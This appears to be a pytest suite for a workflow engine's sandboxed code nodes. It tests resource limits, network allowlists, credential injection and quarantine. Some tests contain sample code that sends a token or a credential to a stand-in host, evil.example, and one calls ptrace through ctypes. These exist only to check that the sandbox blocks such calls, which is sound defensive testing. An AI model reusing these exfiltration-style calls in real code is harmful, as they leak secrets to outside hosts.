"""Code nodes: what the code is given and gives, what is told of the run, and what it may ask for."""

from __future__ import annotations

import os
import signal
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import anyio.lowlevel
import pytest
from support.connectors import action, catalogue_of
from support.flows import findings, read
from support.runs import World

from stackd.core.clock import SystemClock
from stackd.core.errors import NodeError
from stackd.core.json import loads
from stackd.integrations.account import Account
from stackd.integrations.catalogue import Catalogue
from stackd.sandbox import quarantine
from stackd.sandbox.sandbox import Sandbox, SandboxOptions
from stackd.store.database import Database
from stackd.testing import ok
from stackd.workflows.document import findings_in
from stackd.workflows.executions import NodeRow, NodeStatus
from stackd.workflows.findings import Finding

LOST = NodeError("connection lost", kind="network", code="http.reset", sent=True)
SECRET = "s3cret-token-of-the-desk"


@pytest.fixture
async def sandbox() -> AsyncIterator[Sandbox]:
    async with Sandbox(SandboxOptions(mode="worker"), clock=SystemClock()) as made:
        yield made


@pytest.fixture
def world(database: Database, sandbox: Sandbox) -> World:
    return World(database, sandbox=sandbox)


def code(
    source: str, *, params: str = "{}", runtime: str = "", node: str = "", top: str = ""
) -> str:
    """A document with one code node."""
    text = textwrap.indent(textwrap.dedent(source).strip(), " " * 8)
    extra = "".join(f"      {line}\n" for line in runtime.splitlines())
    more = "".join(f"    {line}\n" for line in node.splitlines())
    return (
        f"id: x\n{top}nodes:\n  - {{id: start, type: trigger.time.manual}}\n"
        f"  - id: work\n    type: action.code.run\n    params: {params}\n{more}"
        f"    runtime:\n{extra}      code: |\n{text}\nedges: [{{from: start, to: work}}]\n"
    )


async def ran(world: World, document: str, given: Any = None) -> NodeRow:
    execution = await world.run(document, given)
    return (await world.nodes(execution))["work"]


def told(row: NodeRow) -> dict[str, Any]:
    assert row.metadata is not None
    found: dict[str, Any] = loads(row.metadata)
    return found


# -- what goes in and comes out


async def test_code_gets_its_parameters_filled_in_and_its_result_is_the_output(
    world: World,
) -> None:
    source = """
        def run(params, context):
            return {"total": params["qty"] * 2.5, "of": context["prevOutput"], "vars": context["vars"]}
    """
    document = code(source, params='{qty: "{{ start.qty }}"}', top="vars: {a: 1}\n")

    row = await ran(world, document, {"qty": 4})

    assert row.status is NodeStatus.COMPLETED, row.error
    assert loads(row.output or b"") == {"total": 10.0, "of": {"qty": 4}, "vars": {"a": 1}}


async def test_braces_in_code_are_code(world: World) -> None:
    row = await ran(world, code('def run(params, context):\n    return "{{ start }}"'))

    assert loads(row.output or b"") == "{{ start }}"


async def test_code_that_waits_is_awaited(world: World) -> None:
    source = """
        import asyncio

        async def run(params, context):
            await asyncio.sleep(0.01)
            return await asyncio.gather(*(one(n) for n in range(3)))

        async def one(n):
            return n * n
    """

    row = await ran(world, code(source))

    assert loads(row.output or b"") == [0, 1, 4]


async def test_what_ran_it_and_what_it_logged_stand_with_the_node_run(world: World) -> None:
    source = """
        def run(params, context, log):
            print("printed")
            log.warning("odd", {"n": 1})
    """

    row = await ran(world, code(source))

    found = told(row)
    assert found["logs"] == [
        {"level": "warn", "message": 'odd {"n": 1}'},
        {"level": "info", "message": "printed"},
    ] or found["logs"] == [
        {"level": "info", "message": "printed"},
        {"level": "warn", "message": 'odd {"n": 1}'},
    ]
    assert found["isolation"]["mode"] == "worker"
    assert found["isolation"]["level"] >= 1
    assert found["usage"]["cpuMs"] > 0
    assert row.output == b"null"


async def test_code_that_raises_fails_its_node_and_its_logs_stay(world: World) -> None:
    row = await ran(world, code("def run(params, context):\n    print('so far')\n    return 1 / 0"))

    assert row.status is NodeStatus.FAILED
    error = loads(row.error or b"")
    assert (error["code"], error["message"]) == (
        "code.failed",
        "ZeroDivisionError: division by zero",
    )
    found = told(row)
    assert found["logs"] == [{"level": "info", "message": "so far"}]
    assert "line 3, in run" in found["error"]["trace"]
    assert "stackd" not in found["error"]["trace"]


@pytest.mark.parametrize(
    ("source", "runtime", "expected"),
    [
        ("def run(p, c):\n    while True: pass", "maxCpuMs: 100", "sandbox.cpu"),
        ("import time\ndef run(p, c):\n    time.sleep(60)", "timeoutMs: 100", "sandbox.timeout"),
        ("def run(p, c):\n    return bytearray(200 << 20)", "maxMemoryMb: 32", "sandbox.memory"),
        ("def run(p, c):\n    return 'x' * (2 << 20)", "", "sandbox.output"),
        ("import ctypes\ndef run(p, c):\n    ctypes.CDLL(None).ptrace(0)", "", "sandbox.policy"),
    ],
    ids=["cpu", "time", "memory", "output", "system call"],
)  # fmt: skip
async def test_what_goes_over_a_limit_is_ended_and_the_limit_named(
    world: World, source: str, runtime: str, expected: str
) -> None:
    row = await ran(world, code(source, runtime=runtime))

    assert loads(row.error or b"")["code"] == expected, row.error


async def test_a_node_can_only_tighten_what_its_workflow_allows(world: World) -> None:
    document = code(
        "def run(p, c):\n    while True: pass",
        runtime="maxCpuMs: 60000",
        top="runtime: {maxCpuMs: 100}\n",
    )

    row = await ran(world, document)

    assert told(row)["error"]["violation"]["limit"] == 100


async def test_a_folder_to_write_is_there_where_it_was_asked_for(world: World) -> None:
    source = """
        def run(params, context):
            with open("/tmp/x", "w") as file:
                file.write("hello")
            return open("/tmp/x").read()
    """

    assert loads((await ran(world, code(source, runtime="scratchMb: 1"))).output or b"") == "hello"
    assert (await ran(world, code(source).replace("id: x", "id: y"))).status is NodeStatus.FAILED


async def test_a_run_whose_sandbox_was_killed_is_run_again_by_another(
    world: World, sandbox: Sandbox
) -> None:
    source = """
        import time

        def run(params, context, log):
            log("begun")
            time.sleep(params["seconds"])
            return "done"
    """
    await sandbox.check()
    document = code(source, params='{seconds: "{{ start }}"}')
    execution = await world.start(await world.load(document), 0.3)

    async with world.running(await world.claim()):
        while not sandbox.running:
            await anyio.lowlevel.checkpoint()
        await anyio.to_thread.run_sync(os.kill, sandbox.pid, signal.SIGKILL)

    row = (await world.nodes(execution))["work"]
    assert (row.status, row.output) == (NodeStatus.COMPLETED, b'"done"'), row.error


# -- requests


FETCHES = """
    def run(params, context, fetch):
        answer = fetch(params["url"], json=params.get("json"), credential=params.get("credential"))
        return {"status": answer.status, "body": answer.json()}
"""


async def test_code_may_ask_where_its_node_says_so(world: World) -> None:
    world.http.script.append(ok(b'{"n": 1}', 404))

    row = await ran(
        world, code(FETCHES, params='{url: "https://a.example/x"}', runtime="fetch: true")
    )

    assert loads(row.output or b"") == {"status": 404, "body": {"n": 1}}
    assert told(row)["fetches"] == 1


async def test_code_may_not_ask_elsewhere(world: World) -> None:
    row = await ran(world, code(FETCHES, params='{url: "https://a.example/x"}'))

    assert "set runtime.fetch" in loads(row.error or b"")["message"]
    assert world.http.requests == []


async def test_a_host_that_is_not_listed_is_denied_and_the_run_marked_also_where_the_code_swallows_it(
    world: World,
) -> None:
    source = """
        def run(params, context, fetch):
            try:
                fetch("https://evil.example/x?token=1")
            except Exception as error:
                return str(error)
    """

    row = await ran(world, code(source, runtime="fetch: {allow: [a.example]}"))

    assert "evil.example is not allowlisted" in loads(row.output or b"")
    (violation,) = told(row)["violations"]
    assert violation["type"] == "network-denied"
    assert (violation["host"], violation["reason"]) == ("evil.example", "host_not_allowlisted")
    assert violation["allowlist"] == ["a.example"]
    assert violation["audit"]["nodeId"] == "work"
    assert "token" not in violation["url"]
    assert world.http.requests == []


async def test_a_request_of_which_nobody_knows_what_became_leaves_the_node_uncertain(
    world: World,
) -> None:
    world.http.script.append(LOST)
    document = code(
        FETCHES, params='{url: "https://a.example/x", json: {a: 1}}', runtime="fetch: true"
    )

    row = await ran(world, document)

    assert row.status is NodeStatus.UNCERTAIN
    assert len(world.http.requests) == 1


async def test_the_time_that_a_workflow_gives_its_code_is_what_a_request_of_it_may_take(
    world: World,
) -> None:
    source = """
        def run(params, context, fetch):
            fetch("https://a.example/x", timeout=100)
    """

    row = await ran(world, code(source, runtime="fetch: true", top="runtime: {timeoutMs: 90000}\n"))

    assert row.status is NodeStatus.COMPLETED, row.error
    assert world.http.requests[0].timeout == 100


async def test_requests_of_a_keyed_node_carry_its_key_each_its_own(world: World) -> None:
    source = """
        def run(params, context, fetch):
            for _ in range(2):
                fetch("https://a.example/x", json=1)
    """
    world.http.script.extend([ok(), ok()])

    await ran(world, code(source, runtime="fetch: true", node="effect: keyed"))

    first, second = (one.headers["Idempotency-Key"] for one in world.http.requests)
    assert second == f"{first}:2"


async def test_a_credential_is_added_on_the_way_and_never_seen_by_the_code(
    database: Database, sandbox: Sandbox, tmp_path: Path
) -> None:
    catalogue = await catalogue_of(tmp_path, _desk())
    world = _with_desk(database, sandbox, catalogue)
    world.http.script.append(ok(b'{"n": 1}'))
    params = '{url: "https://desk.example/v1/x", json: {a: 1}, credential: desk-main}'

    row = await ran(world, code(FETCHES, params=params, runtime="fetch: true"))

    assert row.status is NodeStatus.COMPLETED, row.error
    (request,) = world.http.requests
    assert request.headers["Authorization"] == f"Bearer {SECRET}"
    assert SECRET.encode() not in (row.output or b"") + (row.metadata or b"")


async def test_a_credential_goes_to_no_host_but_its_own(
    database: Database, sandbox: Sandbox, tmp_path: Path
) -> None:
    world = _with_desk(database, sandbox, await catalogue_of(tmp_path, _desk()))
    params = '{url: "https://evil.example/x", credential: desk-main}'

    row = await ran(world, code(FETCHES, params=params, runtime="fetch: true"))

    assert "none of its hosts" in loads(row.error or b"")["message"]
    assert world.http.requests == []


def _desk() -> dict[str, Any]:
    return {
        "id": "desk", "name": "Desk", "version": "1.0.0", "baseUrl": "https://desk.example/v1",
        "authentication": {"type": "bearer"}, "actions": [action("get")], "triggers": [],
    }  # fmt: skip


def _with_desk(database: Database, sandbox: Sandbox, catalogue: Catalogue) -> World:
    world = World(database, connectors=catalogue, sandbox=sandbox)
    world.made_up.accounts.known["desk-main"] = Account(
        "connection", "desk-main", {"token": SECRET}, frozenset({"token"}), connector="desk"
    )
    return world


# -- quarantine


async def again(world: World, document: str) -> NodeRow:
    """Another execution of the same version."""
    execution = await world.start("x")
    await world.work()
    return (await world.nodes(execution))["work"]


async def test_code_that_was_killed_for_what_it_took_runs_no_more_until_a_person_says_so(
    world: World,
) -> None:
    document = code("def run(p, c):\n    while True: pass", runtime="maxCpuMs: 50")

    assert loads((await ran(world, document)).error or b"")["code"] == "sandbox.cpu"
    refused = loads((await again(world, document)).error or b"")

    assert refused["code"] == "sandbox.quarantined"
    assert "stackd sandbox release x work" in refused["message"]
    (found,) = await world.store.read(quarantine.quarantined)
    assert (found.workflow_id, found.version, found.node) == ("x", 1, "work")
    assert found.reason["resource"] == "cpu"
    assert await world.store.write(lambda tx: quarantine.release(tx, "x", "work")) == 1
    assert loads((await again(world, document)).error or b"")["code"] == "sandbox.cpu"


async def test_the_third_run_that_breaks_a_rule_is_the_last(world: World) -> None:
    source = """
        def run(params, context, fetch):
            try:
                fetch("https://evil.example/")
            except Exception:
                return "went on"
    """
    document = code(source, runtime="fetch: {allow: [a.example]}")

    first = await ran(world, document)
    rows = [first, *[await again(world, document) for _ in range(3)]]

    assert [row.status for row in rows] == [*[NodeStatus.COMPLETED] * 3, NodeStatus.FAILED]
    assert loads(rows[-1].error or b"")["code"] == "sandbox.quarantined"


async def test_a_run_that_keeps_the_rules_is_forgiven_what_was_before(world: World) -> None:
    key = ("x", 1, "work")
    await world.load(code("def run(p, c): pass"))
    for _ in range(2):
        await world.store.write(
            lambda tx: quarantine.violated(
                tx, key, {"type": "t"}, at_once=False, now=world.clock.time()
            )
        )

    await again(world, "")

    assert await world.store.read(lambda tx: quarantine.get(tx, key)) is None


# -- documents


def test_packages_are_not_installed_while_workflows_run() -> None:
    document = code("def run(p, c): pass", runtime="requirements: [requests]")

    (finding,) = findings(document)

    assert "pip install --target" in finding.message


def test_code_stands_in_code_nodes_and_nowhere_else() -> None:
    text = code("def run(p, c): pass")

    codes = [one.code for one in findings(text.replace("action.code.run", "transform.data.set"))]

    assert "node.no_runtime" in codes
    bare = "id: x\nnodes: [{id: s, type: trigger.time.manual}, {id: w, type: action.code.run}]\nedges: [{from: s, to: w}]"
    assert [one.code for one in findings(bare)] == ["node.no_code"]


def test_code_without_requests_may_run_again_and_warns_of_nothing() -> None:
    assert read(code("def run(p, c): pass")).warnings == ()


async def test_code_that_cannot_run_is_told_at_its_line_and_is_read_by_no_one_but_the_sandbox(
    sandbox: Sandbox,
) -> None:
    document = code("def run(params, context):\n    return (1").encode()

    def lint() -> list[Finding]:
        return findings_in(
            document, name="flow.yaml", max_bytes=10_000, syntax=sandbox.syntax_from_thread
        )

    (finding,) = await anyio.to_thread.run_sync(lint)

    assert (finding.code, finding.line) == ("code.syntax", 10)
    assert finding.message == "work: line 2 of its code: '(' was never closed"


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("x = 1", "entry point run is not exported"),
        ("a = '" + "\0" + "'", "null bytes"),
        ("(" * 100_000, "too many nested parentheses"),
        ("if True:\n    def run(p, c): pass", None),
        ("run = lambda p, c: 1", None),
        ("from x import run", None),
    ],
    ids=["no function", "nul", "brackets", "in a branch", "a lambda", "imported"],
)
async def test_what_keeps_code_from_running_is_found_without_running_it(
    sandbox: Sandbox, source: str, words: str | None
) -> None:
    (slip,) = await sandbox.syntax([(source, "run")])

    assert (slip is None) == (words is None), slip
    assert words is None or words in slip.message
